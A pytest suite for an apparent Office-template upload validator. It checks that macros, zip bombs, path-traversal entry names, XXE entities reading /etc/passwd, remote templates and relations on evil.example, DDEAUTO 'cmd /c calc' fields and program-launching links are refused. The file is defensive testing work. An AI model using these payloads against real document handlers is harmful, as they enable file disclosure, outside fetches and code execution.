"""Templates from strangers: what runs, reaches out, escapes or bursts is refused in words, at little cost."""

from __future__ import annotations

import io
import random
import time
import zipfile
from pathlib import Path

import docx
import pptx
import pytest
from django.utils.translation import override
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from assessments.files.office import checked_office
from assessments.files.office import limits as office_limits
from assessments.files.problems import FileProblems, Problem
from tests.reports.pptx_templates import as_potx, changed, template

DECK = template()
PAPER = (Path(docx.__file__).parent / "templates" / "default.docx").read_bytes()
RELS = "ppt/_rels/presentation.xml.rels"
TYPES = "[Content_Types].xml"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def refused(content: bytes, kind: str = "pptx") -> Problem:
    """The one problem of a file that must be refused."""
    with pytest.raises(FileProblems) as refusal:
        checked_office(content, kind, "house.potx")
    problem = refusal.value.problems[0]
    assert str(problem).startswith("house.potx")
    assert problem.message.endswith(".")
    return problem


def added(part: str, data: bytes, content: bytes = DECK) -> bytes:
    return changed(content, part, lambda _old: data)


def related(kind: str, target: str, mode: str = "") -> bytes:
    """The deck with one more relation of its presentation."""
    outside = f' TargetMode="{mode}"' if mode else ""
    row = f'<Relationship Id="rIdX" Type="{R}/{kind}" Target="{target}"{outside}/></Relationships>'.encode()
    return changed(DECK, RELS, lambda xml: xml.replace(b"</Relationships>", row))


def picture(width: int, height: int, kind: str = "PNG") -> bytes:
    target = io.BytesIO()
    Image.new("1", (width, height)).save(target, kind)
    return target.getvalue()


# ---------------------------------------------------------------- what is accepted


def test_a_plain_template_comes_back_as_a_presentation_that_opens():
    for content in (DECK, as_potx(DECK)):
        checked = checked_office(content, "pptx")
        with zipfile.ZipFile(io.BytesIO(checked)) as archive:
            types = archive.read(TYPES)
        assert b"presentation.main+xml" in types
        assert b"template.main+xml" not in types
        assert len(pptx.Presentation(io.BytesIO(checked)).slide_layouts) == 11


def test_a_plain_document_and_a_dotx():
    dotx = changed(PAPER, TYPES, lambda xml: xml.replace(b"document.main+xml", b"template.main+xml"))
    for content in (PAPER, dotx):
        assert docx.Document(io.BytesIO(checked_office(content, "docx"))).styles


def test_the_same_file_gives_the_same_bytes_and_checking_twice_changes_nothing():
    once = checked_office(DECK, "pptx")
    assert once == checked_office(DECK, "pptx") == checked_office(once, "pptx")


def test_bytes_before_and_after_the_archive_are_left_behind():
    assert b"<script>" not in checked_office(DECK + b"<script>", "pptx")


def test_links_that_a_reader_clicks_may_stay():
    for target in ("https://example.org/", "mailto:a@example.org"):
        assert checked_office(related("hyperlink", target, "External"), "pptx")


def test_pictures_and_charts_of_a_template_may_stay():
    book = io.BytesIO()
    with zipfile.ZipFile(book, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    content = added("ppt/media/logo.png", picture(1000, 400))
    content = added("ppt/embeddings/Microsoft_Excel_Sheet1.xlsx", book.getvalue(), content)
    assert checked_office(content, "pptx")


# ---------------------------------------------------------------- not what it claims to be


@pytest.mark.parametrize(
    ("content", "kind", "said"),
    [
        (b"", "pptx", "not an office file"),
        (b"hello", "docx", "not an office file"),
        (b"%PDF-1.7", "pptx", "not an office file"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "pptx", "password"),
        (b"PK\x03\x04 and nothing else", "pptx", "damaged"),
        (DECK[:9000], "pptx", "damaged"),
        (PAPER, "pptx", "Word document"),
        (DECK, "docx", "PowerPoint"),
    ],
)
def test_other_files(content, kind, said):
    assert said in refused(content, kind).message


def test_an_archive_that_is_neither():
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("a.txt", "x")
    for kind, name in (("pptx", "PowerPoint"), ("docx", "Word")):
        assert name in refused(target.getvalue(), kind).message


def test_a_template_without_layouts_or_titles():
    bare = pptx.Presentation()
    for layout in list(bare.slide_layouts):
        bare.slide_layouts.remove(layout)
    target = io.BytesIO()
    bare.save(target)
    assert "no slide layouts" in refused(target.getvalue()).message
    untitled = pptx.Presentation()
    for layout in list(untitled.slide_layouts):
        if layout.name != "Blank":
            untitled.slide_layouts.remove(layout)
    target = io.BytesIO()
    untitled.save(target)
    assert "Title Only" in refused(target.getvalue()).message


# ---------------------------------------------------------------- too large


def test_a_file_that_is_too_large():
    assert "20 MB" in refused(DECK + bytes(office_limits.FILE_BYTES)).message


def test_a_zip_bomb_is_not_unpacked():
    began = time.process_time()
    assert "MB" in refused(added("ppt/media/x.bin", bytes(130 * 1024 * 1024))).message
    assert "to one" in refused(added("ppt/media/x.bin", bytes(5 * 1024 * 1024))).message
    assert time.process_time() - began < 10


def test_a_bomb_that_lies_about_its_size():
    content = bytearray(added("ppt/media/x.bin", bytes(60_000_000)))
    declared = (60_000_000).to_bytes(4, "little")
    for place in range(len(content) - 4):
        if content[place : place + 4] == declared:
            content[place : place + 4] = (50).to_bytes(4, "little")
    assert "damaged" in refused(bytes(content)).message


def test_too_many_parts():
    target = io.BytesIO(DECK)
    with zipfile.ZipFile(target, "a") as archive:
        for number in range(office_limits.PARTS):
            archive.writestr(f"ppt/media/{number}.bin", b"")
    assert "2000 parts" in refused(target.getvalue()).message


def test_a_part_of_xml_that_is_too_large_too_deep_or_too_full():
    many = b"".join(b"<b%d/>" % random.randrange(10**6) for _ in range(office_limits.ELEMENTS + 1))
    assert "8 MB" in refused(added("ppt/x.xml", b"<a>" + random.randbytes(5_000_000).hex().encode() + b"</a>")).message
    assert "nested" in refused(added("ppt/x.xml", b"<a>" * 200 + b"</a>" * 200)).message
    assert "too large" in refused(added("ppt/x.xml", b"<a>" + many + b"</a>")).message


@pytest.mark.parametrize("size", [(20_000, 10), (10, 20_001), (9_000, 9_000)])
def test_a_picture_that_unpacks_to_a_wall(size):
    problem = refused(added("ppt/media/wall.png", picture(*size)))
    assert "pixels" in problem.message
    assert problem.place.entry == "ppt/media/wall.png"


@pytest.mark.parametrize("data", [b"", b"<svg/>", b"\x89PNG\r\n\x1a\nrest", b"MZ\x90"])
def test_a_picture_that_is_none(data):
    assert "picture" in refused(added("ppt/media/a.png", data)).message
    assert "picture" in refused(added("ppt/media/a.emf", data)).message


# ---------------------------------------------------------------- leads out


@pytest.mark.parametrize(
    "name", ["../evil.xml", "/etc/passwd", "ppt/../../x.xml", "C:/x.xml", "ppt\\..\\x.xml", "a/./b.xml", "a\nb.xml"]
)
def test_names_that_escape(name):
    target = io.BytesIO(DECK)
    with zipfile.ZipFile(target, "a") as archive:
        entry = zipfile.ZipInfo("x")
        entry.filename = entry.orig_filename = name
        archive.writestr(entry, b"<a/>")
    assert "leads out" in refused(target.getvalue()).message


def test_a_symbolic_link():
    target = io.BytesIO(DECK)
    with zipfile.ZipFile(target, "a") as archive:
        entry = zipfile.ZipInfo("ppt/link.xml")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    assert "leads out" in refused(target.getvalue()).message


def test_the_same_part_twice():
    target = io.BytesIO(DECK)
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr("PPT/presentation.xml", b"<a/>")
    assert "twice" in refused(target.getvalue()).message


def test_a_part_with_a_password():
    content = bytearray(DECK)
    for signature, flags in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        place = content.find(signature)
        content[place + flags] |= 1
    assert "password" in refused(bytes(content)).message


@pytest.mark.parametrize(
    ("kind", "target", "mode", "said"),
    [
        ("image", "http://evil.example/a.png", "External", "outside the file"),
        ("image", "file:///etc/passwd", "External", "outside the file"),
        ("attachedTemplate", "\\\\evil.example\\share\\a.dotm", "External", "outside the file"),
        ("slideMaster", "https://evil.example/m.xml", "external", "outside the file"),
        ("hyperlink", "file:///etc/passwd", "External", "web or mail"),
        ("hyperlink", "javascript:alert(1)", "External", "web or mail"),
        ("hyperlink", "http://[", "External", "web or mail"),
        ("image", "../../../etc/passwd", "", "outside the file"),
        ("image", "http://evil.example/a.png", "", "outside the file"),
        ("image", "media/gone.png", "", "not there"),
        ("oleObject", "media/x", "", "runs or is embedded"),
        ("control", "media/x", "", "runs or is embedded"),
        ("aFChunk", "media/x", "", "runs or is embedded"),
    ],
)
def test_relations_that_reach_out(kind, target, mode, said):
    problem = refused(related(kind, target, mode))
    assert said in problem.message
    assert problem.place.entry == RELS
    assert kind in problem.found


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize(
    "declaration",
    ['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', '<!DOCTYPE a SYSTEM "http://evil.example/d">'],
)
def test_entities_in_any_part(encoding, declaration):
    xml = f'<?xml version="1.0" encoding="{encoding}"?>{declaration}<a/>'.encode(encoding)
    for part in ("ppt/theme/theme1.xml", "customXml/item9.xml", TYPES, RELS):
        assert "entities" in refused(added(part, xml)).message


def test_odd_encodings_and_broken_xml():
    assert "encoding" in refused(added("ppt/x.xml", b'<?xml version="1.0" encoding="utf-7"?><a/>')).message
    assert "damaged" in refused(added("ppt/x.xml", b"<a><b></a>")).message


def test_a_drawing_that_runs_or_loads():
    for inside in ("<script>1</script>", '<rect onload="x()"/>', '<image href="http://evil.example/a.png"/>'):
        svg = f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'.encode()
        assert "drawing" in refused(added("ppt/media/a.svg", svg)).message
    plain = b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/><use href="#a"/></svg>'
    assert checked_office(added("ppt/media/a.svg", plain), "pptx")


# ---------------------------------------------------------------- runs


@pytest.mark.parametrize(
    ("part", "said"),
    [
        ("ppt/vbaProject.bin", "macros"),
        ("ppt/VBAData.xml", "macros"),
        ("ppt/activeX/activeX1.xml", "ActiveX"),
        ("customUI/customUI14.xml", "add-in"),
        ("ppt/embeddings/oleObject1.bin", "embedded object"),
        ("ppt/embeddings/other.docm", "embedded object"),
        ("ppt/tool.exe", "do not know"),
        ("ppt/page.html", "do not know"),
    ],
)
def test_parts_that_run(part, said):
    problem = refused(added(part, b"<a/>"))
    assert said in problem.message
    assert problem.place.entry == part


@pytest.mark.parametrize("kind", ["pptm", "potm"])
def test_content_types_with_macros(kind):
    name = {"pptm": b"ms-powerpoint.presentation", "potm": b"ms-powerpoint.template"}[kind]
    old = b"vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    content = changed(DECK, TYPES, lambda xml: xml.replace(old, b"vnd." + name + b".macroEnabled.main+xml"))
    assert "macros" in refused(content).message


def test_a_part_that_hides_its_kind():
    override_row = b'<Override PartName="/ppt/x.bin" ContentType="application/xml"/></Types>'
    content = changed(added("ppt/x.bin", b"<a/>"), TYPES, lambda xml: xml.replace(b"</Types>", override_row))
    assert "do not know" in refused(content).message


def test_a_workbook_behind_a_chart_is_looked_at_too():
    book = io.BytesIO()
    with zipfile.ZipFile(book, "w") as archive:
        archive.writestr("xl/vbaProject.bin", b"x")
    problem = refused(added("ppt/embeddings/book.xlsx", book.getvalue()))
    assert "macros" in problem.message
    assert problem.place.entry == "ppt/embeddings/book.xlsx: xl/vbaProject.bin"


@pytest.mark.parametrize("field", ["INCLUDEPICTURE http://x/a.png", " DDEAUTO cmd /c calc", "IncludeText C:\\x"])
def test_fields_that_fetch(field):
    start = b'<w:p xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    simple = start + f'<w:fldSimple w:instr="{field}"/></w:p>'.encode()
    half = len(field) // 2
    pieces = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in (field[:half], field[half:]))
    split = start + f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{pieces}</w:p>'.encode()
    for xml in (simple, split):
        assert "field" in refused(added("word/extra.xml", xml, PAPER), "docx").message
    assert checked_office(added("word/extra.xml", start + b'<w:fldSimple w:instr="PAGE"/></w:p>', PAPER), "docx")


def test_links_that_start_a_program():
    link = b'<a:hlinkClick xmlns:a="x" action="ppaction://program?calc.exe"/>'
    assert "program" in refused(added("ppt/x.xml", link)).message
    assert checked_office(added("ppt/x.xml", link.replace(b"program?calc.exe", b"hlinksldjump")), "pptx")


# ---------------------------------------------------------------- how it is said


def test_everything_that_is_wrong_is_said_at_once_in_the_language_of_the_reader():
    content = added("ppt/vbaProject.bin", b"x", added("ppt/media/wall.png", picture(20_000, 5)))
    with override("zh-hant"), pytest.raises(FileProblems) as refusal:
        checked_office(content, "pptx")
    assert {each.place.entry for each in refusal.value.problems} == {"ppt/vbaProject.bin", "ppt/media/wall.png"}
    assert all("巨集" in line or "像素" in line for line in refusal.value.lines())


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_damaged_templates_are_refused_or_whole(data):
    """Whatever bytes are overwritten: a file that opens, or problems in words, never anything else."""
    content = bytearray(DECK)
    for place, byte in data.draw(st.lists(st.tuples(st.integers(0, len(DECK) - 1), st.integers(0, 255)), max_size=10)):
        content[place] = byte
    try:
        checked = checked_office(bytes(content), "pptx")
    except FileProblems as refusal:
        assert all(line and "\n" not in line for line in refusal.lines())
    else:
        assert zipfile.ZipFile(io.BytesIO(checked)).testzip() is None
